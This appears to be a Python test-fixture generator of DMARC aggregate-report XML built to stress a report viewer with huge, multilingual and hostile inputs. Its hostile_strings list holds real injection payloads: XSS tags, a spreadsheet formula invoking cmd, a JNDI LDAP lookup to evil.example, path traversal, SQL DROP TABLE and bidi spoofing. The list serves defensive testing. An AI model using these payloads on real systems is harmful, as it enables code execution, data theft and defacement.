# SPDX-License-Identifier: MIT
"""Reports that make pages hard: none, one row, ten thousand sources, foreign scripts, five hundred hostile strings."""
import itertools
from xml.sax.saxutils import escape

DAY = 1793491200  # 2026-11-01T00:00:00Z


def record(ip, count, dkim, spf, header_from, auth="", disposition="none", reason="", envelope="", to=""):
    return (f"<record><row><source_ip>{ip}</source_ip><count>{count}</count><policy_evaluated><disposition>{disposition}</disposition>"
            f"<dkim>{dkim}</dkim><spf>{spf}</spf>{reason}</policy_evaluated></row><identifiers><header_from>{header_from}</header_from>"
            f"<envelope_from>{envelope}</envelope_from><envelope_to>{to}</envelope_to></identifiers><auth_results>{auth}</auth_results></record>\n")


def report(org, report_id, day, records, domain, policy="none", extra="", email="noreply@reporter.example", error=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<feedback><version>1.0</version>{extra}<report_metadata><org_name>{org}</org_name><email>{email}</email>'
            f"<report_id>{report_id}</report_id><date_range><begin>{DAY + day * 86400}</begin><end>{DAY + day * 86400 + 86399}</end></date_range>{error}</report_metadata>"
            f"<policy_published><domain>{domain}</domain><adkim>r</adkim><aspf>r</aspf><p>{policy}</p><sp>{policy}</sp></policy_published>\n{''.join(records)}</feedback>\n")


def dkim(domain, selector="s1", result="pass", human=""):
    return f"<dkim><domain>{domain}</domain><selector>{selector}</selector><result>{result}</result><human_result>{human}</human_result></dkim>"


def spf(domain, result="pass", human=""):
    return f"<spf><domain>{domain}</domain><scope>mfrom</scope><result>{result}</result><human_result>{human}</human_result></spf>"


def one_row():
    yield report("google.com", "one", 10, [record("192.0.2.1", 1, "pass", "fail", "example.com", dkim("example.com"))], "example.com")


def ten_thousand_sources():
    for day in range(4):
        rows = [record(f"198.{18 + n // 65536}.{n // 256 % 256}.{n % 256}", 1 + n % 7, "fail" if n % 3 else "pass", "fail", "example.com",
                       dkim("example.com", f"s{n % 50}", "fail" if n % 3 else "pass") + spf(f"bounce{n % 900}.example.net"))
                for n in range(day * 2500, day * 2500 + 2500)]
        yield report("google.com", f"many-{day}", 8 + day, rows, "example.com")


def foreign_scripts():
    bnc = "x1y2z3.a-0hu5amac.na63.bnc.salesforce.com"
    for n, (org, domain) in enumerate([("شركة البريد", "xn--bcher-kva.example"), ("דואר ישראל", "xn--mgbh0fb.example"), ("日本郵便", "xn--wgv71a119e.example"),
                                       ("Почта & Сыновья", "xn--80ak6aa92e.example"), ("Ünïcödé GmbH", "xn--not-a-label-%%.example")]):
        rows = [record("13.110.6.10", 120, "fail", "fail", domain, spf(bnc)), record("2001:db8::1", 40, "pass", "pass", f"mail.{domain}", dkim(domain) + spf(domain))]
        yield report(escape(org), f"idn-{n}", 9, rows, domain)


def hostile_strings():
    """Five hundred: what has fooled a page, a terminal or a spreadsheet, alone and in the frames that made it work."""
    cores = ["<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<iframe src=javascript:hit()>", "</title><script>hit()</script>", "</style><script>hit()</script>",
             "<!--", "-->", "]]>", "<![CDATA[<b>]]>", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;", "javascript:hit()", "data:text/html,<script>hit()</script>",
             "\" onmouseover=\"hit()", "' onfocus='hit()' autofocus='", "`onload=hit()`", "<a href=https://evil.example>click</a>", "<form action=https://evil.example>", "<meta http-equiv=refresh content=0>",
             "<base href=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>", "url(https://evil.example/x)", "</bdi></td></table><h1>owned</h1>",
             "\u202egnp.exe", "\u2066\u2067x\u2069", "\u200f\u200e", "\u061c", "zero\u200bwidth\u200d", "\ufeffbom", "a\u0085b", "\u2028line\u2029", "\U000e0041tag",
             "=HYPERLINK(\"https://evil.example\")", "+1+1|cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", ";=1+1", "\"=1+1\"", "%s%n%x", "{0}{{}}", "${jndi:ldap://evil.example}", "../../etc/passwd",
             "'; DROP TABLE report; --", "x" * 5000, "é́́́́́́" * 20, "\u0e49" * 60, "[31mred", "]0;title", "\x7f"]
    frames = ["{}", "a{}b", "{}.example.com", "\"{}", "'>{}", " {}", "x\n{}", "{0}{0}", ">{}<", "\u05d0{}\u05d0"]
    strings = [frame.format(core) if "{" not in core else frame.replace("{0}{0}", "{}").replace("{}", core) for frame, core in itertools.product(frames, cores)]
    return strings[:500]


def hostile():
    for n, raw in enumerate(hostile_strings()):
        bad = escape(raw)
        reason = f"<reason><type>{bad}</type><comment>{bad}</comment></reason>"
        auth = dkim(bad, bad, bad, bad) + spf(bad, bad, bad) + dkim("example.com", bad, "pass", bad) + spf(bad, "pass", bad)
        rows = [record(f"203.0.113.{n % 250}", 3, "fail", "fail", bad, auth, bad, reason, bad, bad), record(f"203.0.113.{n % 250}", 2, bad, bad, "example.com", auth, "none", reason, bad, bad),
                record("13.110.6.10", 4, "fail", "fail", bad, spf("x1y2z3.a-0hu5amac.na63.bnc.salesforce.com"))]
        # Every other time the policy domain is in order, so that one domain's page is full of strangers' words.
        domain = bad if n % 2 else "example.com"
        yield report(bad, f"{bad}-{n}", n % 12, rows, domain, extra=f"<generator>{bad}</generator>", email=bad, error=f"<error>{bad}</error>")


def nested_domains():
    """A domain with a record of its own below another one that is somebody else's; and a name that only some reporters file as one."""
    for day in range(28):
        for org in ("google.com", "yahoo.com", "comcast.net"):
            if day < 20:
                yield report(org, f"{org}-above-{day}", day - 24, [record("192.0.2.1", 50, "pass", "fail", "acme.example", dkim("acme.example"))], "acme.example")
            yield report(org, f"{org}-below-{day}", day - 24, [record("198.51.100.7", 40, "pass", "fail", "shop.acme.example", dkim("shop.acme.example"))],
                         "shop.acme.example", policy="quarantine")
